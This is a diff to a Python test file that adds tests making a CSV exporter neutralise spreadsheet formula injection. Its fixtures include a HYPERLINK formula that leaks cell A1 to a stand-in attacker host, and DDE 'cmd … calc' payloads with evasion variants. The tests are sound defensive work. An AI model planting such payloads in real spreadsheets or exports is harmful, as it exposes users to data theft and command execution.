@@ -16,6 +16,7 @@ from plugins.opendata.written import as_csv, as_geojson, as_json
 from plugins.publication.clock import PARIS
 from plugins.publication.dataset import Column, Dataset
 from plugins.publication.kind import Field, Kind
+from plugins.publication.spreadsheet import text_cell
 from tests.opendata.rules_table import wrong
 
 COLUMNS = (
@@ -46,8 +47,32 @@ ROWS = st.lists(
 @given(ROWS)
 def test_any_rows_are_a_table_that_its_schema_accepts(rows):
     assert list(wrong(as_csv(TABLE, rows), table_schema(TABLE))) == []
-    assert [row["nom"] for row in csv.DictReader(io.StringIO(as_csv(TABLE, rows).decode(), newline=""))] == [row["nom"] for row in rows]
+    names = [row["nom"] for row in csv.DictReader(io.StringIO(as_csv(TABLE, rows).decode(), newline=""))]
+    assert names == [text_cell(row["nom"]) for row in rows]
     assert [row["mots"] for row in json.loads(as_json(TABLE, rows))] == [row["mots"] for row in rows]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("https://voleur.example/?"&A1;"Cliquez")',
+        *("@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "＝1+1"),
+        *("Fête ;=1+1", "Fête\n=1+1", "Fête;@A1"),
+    ],
+)
+def test_a_spreadsheet_shows_the_words_of_a_cell_and_computes_nothing(text):
+    written = as_csv(TABLE, [{"nom": text, "mots": [text]}]).decode()
+    for separator in (",", ";", "\t"):
+        for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator, quoting=csv.QUOTE_MINIMAL):
+            assert not [cell for cell in row if cell.lstrip('"').startswith(("=", "+", "@", "-", "\t", "＝"))]
+    assert json.loads(as_json(TABLE, [{"nom": text}]))[0]["nom"] == text
+
+
+@pytest.mark.parametrize(
+    "text", ["+33 2 61 91 00 12", "-1.25", "02 61 91 00 12", "Salle des fêtes - étage", "a=b", "l’été", "mairie@valbrune.example", "1-3"]
+)
+def test_what_is_no_formula_is_given_as_it_is(text):
+    assert text_cell(text) == text
 
 
 def test_a_schema_refuses_what_is_missing_or_of_another_type():
